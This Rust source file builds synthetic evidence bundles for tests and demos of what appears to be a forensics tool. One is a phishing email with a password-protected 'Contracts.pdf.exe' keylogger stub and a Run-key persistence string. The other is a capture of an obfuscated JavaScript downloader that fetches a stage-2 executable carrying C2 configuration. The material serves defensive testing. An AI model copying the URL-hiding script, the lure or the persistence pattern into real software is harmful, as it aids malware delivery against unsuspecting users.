//! The two end-to-end evidence bundles used by acceptance tests, demos and
//! the CLI walkthrough in the README.

use crate::eml::{build_eml, AttachmentSpec, EmlSpec};
use crate::pcap::{build_pcap, http_get, http_response, HttpFlow};
use crate::pe::{build_pe, overlay_offset, PeSpec};
use crate::zip::{build_zip, Method, ZipEntrySpec};

/// A phishing mail: the body announces a password, the attached encrypted
/// archive holds a keylogger posing as a PDF.
#[derive(Debug, Clone)]
pub struct ContractsScenario {
    pub eml: Vec<u8>,
    pub zip: Vec<u8>,
    pub pe: Vec<u8>,
    pub password: &'static str,
    pub eml_name: &'static str,
    pub zip_name: &'static str,
    pub pe_name: &'static str,
    pub registry_key: &'static str,
}

pub fn contracts() -> ContractsScenario {
    let registry_key = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\ContractsViewer";
    let pe = build_pe(&PeSpec {
        icon: true,
        strings: vec![registry_key.to_string()],
        ..PeSpec::default()
            .import("KERNEL32.dll", &["GetModuleHandleA", "ExitProcess"])
            .import("USER32.dll", &["SetWindowsHookExA", "CallNextHookEx"])
    });
    let password = "infected";
    let zip = build_zip(
        &[ZipEntrySpec::new("Contracts.pdf.exe", pe.clone(), Method::Deflate).encrypted(password)],
        "",
        0x5EED,
    );
    let eml = build_eml(&EmlSpec {
        from: "Legal Department <legal@contoso-partners.example>".into(),
        to: "j.doe@victim.example".into(),
        subject: "Signed contracts for review".into(),
        body: "Hello,\n\nplease find the signed contracts attached.\nThe archive password is infected\n\nBest regards,\nLegal\n"
            .into(),
        attachments: vec![AttachmentSpec {
            filename: Some("Contracts.zip".into()),
            mime_type: "application/zip".into(),
            data: zip.clone(),
        }],
        ..Default::default()
    });
    ContractsScenario {
        eml,
        zip,
        pe,
        password,
        eml_name: "contracts.eml",
        zip_name: "Contracts.zip",
        pe_name: "Contracts.pdf.exe",
        registry_key,
    }
}

/// `String.fromCharCode(...)` spelling of `text`.
pub fn js_charcode(text: &str) -> String {
    let codes: Vec<String> = text.chars().map(|c| (c as u32).to_string()).collect();
    format!("String.fromCharCode({})", codes.join(","))
}

/// A capture in which a script hides the URL of a second-stage download; the
/// download is an executable whose overlay is an encrypted archive with the
/// actor's configuration.
#[derive(Debug, Clone)]
pub struct DropperScenario {
    pub pcap: Vec<u8>,
    pub script: Vec<u8>,
    pub pe: Vec<u8>,
    pub overlay_zip: Vec<u8>,
    pub overlay_offset: usize,
    pub config: Vec<u8>,
    pub password: &'static str,
    pub hidden_url: &'static str,
    pub c2_ip: &'static str,
    pub wallet: &'static str,
    pub registry_key: &'static str,
}

pub fn dropper() -> DropperScenario {
    let hidden_url = "http://update-check.example.net/stage2/update.exe";
    let c2_ip = "198.51.100.23";
    let wallet = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa";
    let registry_key = r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\UpdateSvc";
    let password = "letmein42";

    let script = format!(
        "(function () {{\n  var u = {};\n  var x = new XMLHttpRequest();\n  x.open('GET', u, false);\n  x.send();\n}})();\n",
        js_charcode(hidden_url)
    )
    .into_bytes();
    let config = format!("[beacon]\r\nhost = {c2_ip}\r\nwallet = {wallet}\r\npersist = {registry_key}\r\n").into_bytes();
    let overlay_zip = build_zip(
        &[ZipEntrySpec::new("config.ini", config.clone(), Method::Deflate).encrypted(password)],
        "",
        0xD40B,
    );
    let spec = PeSpec {
        overlay: Some(overlay_zip.clone()),
        ..PeSpec::default()
            .import("KERNEL32.dll", &["CreateFileA", "WriteFile", "GetTempPathA"])
            .import("WININET.dll", &["InternetOpenA", "InternetReadFile"])
    };
    let pe = build_pe(&spec);
    let client = ([192, 168, 56, 101], 49733);
    let pcap = build_pcap(&[
        HttpFlow {
            client,
            server: ([203, 0, 113, 80], 80),
            request: http_get("cdn.example-static.test", "/js/loader.js"),
            response: http_response(200, "application/javascript", &script),
        },
        HttpFlow {
            client: (client.0, client.1 + 1),
            server: ([203, 0, 113, 81], 80),
            request: http_get("update-check.example.net", "/stage2/update.exe"),
            response: http_response(200, "application/octet-stream", &pe),
        },
    ]);
    DropperScenario {
        pcap,
        script,
        overlay_offset: overlay_offset(&spec),
        pe,
        overlay_zip,
        config,
        password,
        hidden_url,
        c2_ip,
        wallet,
        registry_key,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic() {
        assert_eq!(contracts().eml, contracts().eml);
        assert_eq!(dropper().pcap, dropper().pcap);
    }

    #[test]
    fn charcode_spelling() {
        assert_eq!(js_charcode("hi"), "String.fromCharCode(104,105)");
    }

    #[test]
    fn url_is_hidden_in_the_script() {
        let d = dropper();
        let s = String::from_utf8(d.script).unwrap();
        assert!(!s.contains("http"));
    }
}
